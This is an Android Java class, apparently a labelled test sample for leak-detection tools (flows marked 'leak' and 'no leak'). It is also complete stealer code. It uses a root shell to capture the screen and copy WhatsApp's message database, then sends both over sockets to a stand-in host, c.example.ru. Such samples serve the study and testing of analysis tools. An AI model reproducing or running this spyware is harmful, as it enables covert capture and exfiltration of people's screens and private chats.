package stealers;

import android.app.IntentService;
import android.content.Intent;

import java.io.*;
import java.net.*;

/** A root shell takes the screen and the chats of another app. */
public class ShellShot extends IntentService {
    public ShellShot() {
        super("s");
    }

    static void su(String... lines) throws Exception {
        Process p = Runtime.getRuntime().exec("su");
        DataOutputStream o = new DataOutputStream(p.getOutputStream());
        for (String one : lines) o.writeBytes(one + "\n");
        o.writeBytes("exit\n");
        o.flush();
        p.waitFor();
    }

    @Override
    protected void onHandleIntent(Intent i) {
        try {
            su("/system/bin/screencap -p /sdcard/s.png");
            Socket s = new Socket("c.example.ru", 7777);
            pour(new FileInputStream("/sdcard/s.png"), s.getOutputStream());
            String db = "/data/data/com.whatsapp/databases/msgstore.db";
            File copy = new File(getCacheDir(), "m.db");
            su("cat " + db + " > " + copy.getAbsolutePath(), "chmod 666 " + copy.getAbsolutePath());
            OutputStream second = new Socket("c.example.ru", 7778).getOutputStream();
            FileInputStream in = new FileInputStream(copy);
            byte[] b = new byte[1024];
            for (int n; (n = in.read(b)) != -1; ) second.write(b, 0, n); // leak
            InputStream own = getAssets().open("banner.png");
            OutputStream third = new Socket("c.example.ru", 7779).getOutputStream();
            for (int n; (n = own.read(b)) != -1; ) third.write(b, 0, n); // no leak
        } catch (Exception e) {
            e.printStackTrace();
        }
    }

    static void pour(InputStream in, OutputStream out) throws IOException {
        byte[] b = new byte[8192];
        int n;
        while ((n = in.read(b)) > 0) out.write(b, 0, n); // leak
        out.flush();
    }
}
